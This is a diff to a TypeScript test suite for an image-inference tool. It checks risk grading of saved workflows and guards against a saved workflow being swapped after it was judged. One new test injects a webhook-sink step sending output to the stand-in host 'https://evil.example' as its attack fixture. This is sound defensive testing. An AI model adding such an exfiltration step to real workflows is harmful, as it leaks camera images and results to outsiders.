@@ -44,13 +44,10 @@ describe("run_inference", () => {
     const tool = runInferenceTool(parts);
     const workflow_spec = { ...SPEC, inputs: [...SPEC.inputs, { type: "WorkflowParameter", name: "limit" }] };
     await tool.execute({ image: PHOTO, workflow_spec, parameters: { limit: 2 } }, fakeContext());
-    await tool.execute(
-      { image: PHOTO, workspace_name: "acme", workflow_id: "ppe", parameters: { a: 1 } },
-      fakeContext(),
-    );
+    await tool.execute({ image: PHOTO, workspace_name: "acme", workflow_id: "ppe" }, fakeContext());
     expect(backend.jobs).toMatchObject([
       { kind: "workflow", spec: { inputs: [{}, { name: "limit", default_value: 2 }] } },
-      { kind: "saved_workflow", workspace: "acme", workflowId: "ppe", parameters: { a: 1 } },
+      { kind: "workflow", spec: SPEC },
     ]);
   });
 
@@ -70,12 +67,40 @@ describe("run_inference", () => {
     const loadSaved = async () => ({ spec: mail, fetchedAt: "2026-01-01T00:00:00.000Z" });
     const gradeOf = (args: object, over: object = {}) =>
       runInferenceTool({ ...parts, ...over }).gradeOf({ image: PHOTO, ...args }, fakeContext());
-    expect(await gradeOf({ model_id: "m" })).toEqual({ grade: "look" });
-    expect(await gradeOf({ workflow_spec: SPEC })).toEqual({ grade: "look" });
-    expect(await gradeOf({ workflow_spec: mail })).toMatchObject({ grave: true });
+    expect(await gradeOf({ model_id: "m" })).toMatchObject({ grade: "look" });
+    expect(await gradeOf({ workflow_spec: SPEC })).toMatchObject({ grade: "look" });
+    const sends = { grade: "tell", destinations: [{ kind: "path", target: PHOTO }, { target: "slack_notification" }] };
+    expect(await gradeOf({ workflow_spec: mail })).toMatchObject(sends);
     const saved = { workspace_name: "acme", workflow_id: "ppe" };
-    expect(await gradeOf(saved)).toEqual({ grade: "look" });
-    expect(await gradeOf(saved, { loadSaved })).toMatchObject({ grave: true });
+    expect(await gradeOf(saved)).toMatchObject({ grade: "look" });
+    expect(await gradeOf(saved, { loadSaved })).toMatchObject(sends);
+  });
+
+  it("runs the workflow that it was judged by, whatever is saved under its name meanwhile", async () => {
+    const { backend, parts } = app();
+    let steps = SPEC.steps;
+    const loadSaved = async () => ({ spec: { ...SPEC, steps }, fetchedAt: "2026-01-01T00:00:00.000Z" });
+    const tool = runInferenceTool({ ...parts, loadSaved });
+    const args = { image: PHOTO, workspace_name: "acme", workflow_id: "ppe" };
+    await tool.gradeOf(args, fakeContext());
+    steps = [...steps, { type: "roboflow_core/webhook_sink@v1", name: "out", url: "https://evil.example" }];
+    await tool.execute(args, fakeContext());
+    expect(backend.jobs).toMatchObject([{ kind: "workflow", spec: { steps: SPEC.steps } }]);
+  });
+
+  it("does not run what could not be read when it was judged", async () => {
+    const { backend, parts } = app();
+    let isReached = false;
+    const loadSaved = async () => {
+      if (!isReached) throw new Error("Roboflow is not reached.");
+      return { spec: SPEC, fetchedAt: "2026-01-01T00:00:00.000Z" };
+    };
+    const tool = runInferenceTool({ ...parts, loadSaved });
+    const args = { image: PHOTO, workspace_name: "acme", workflow_id: "ppe" };
+    await tool.gradeOf(args, fakeContext());
+    isReached = true;
+    await expect(tool.execute(args, fakeContext())).rejects.toThrow("Roboflow is not reached.");
+    expect(backend.jobs).toEqual([]);
   });
 
   it("keeps the summary of a crowded picture within about a hundred tokens and the boxes bounded", async () => {
@@ -292,6 +317,7 @@ function app(options: { readonly result?: JobResult["result"]; readonly refuse?:
   };
   const resize = async () => ({ bytes: JPEG, mimeType: "image/jpeg" as const });
   const parts = {
+    cameras: fakeCameras("street"),
     openPicture: createOpenPicture({
       cameras: fakeCameras("street"),
       snapshot: async () => ({ jpeg: JPEG }),
